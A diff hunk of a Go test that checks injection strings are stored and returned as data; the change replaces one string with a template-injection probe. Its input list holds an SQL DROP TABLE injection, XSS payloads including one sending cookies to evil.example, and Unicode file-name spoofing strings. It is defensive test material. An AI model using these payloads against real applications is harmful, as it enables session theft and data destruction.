@@ -205,7 +205,7 @@ func TestInjectionIsStoredAndReturnedAsData(t *testing.T) {
 		"'); DROP TABLE messages;--",
 		`<script>document.location="https://evil.example/?c="+document.cookie</script>`,
 		`<img src=x onerror=alert(1)>`,
-		"%_\\ ' \" ` $1 ${x} {{customer_name}}",
+		"%_\\ ' \" ` $1 ${x} {{ 7*7 }} {{",
 		"x\u202eexe.pdf \u200b zero-width",
 	}
 	for i, text := range texts {
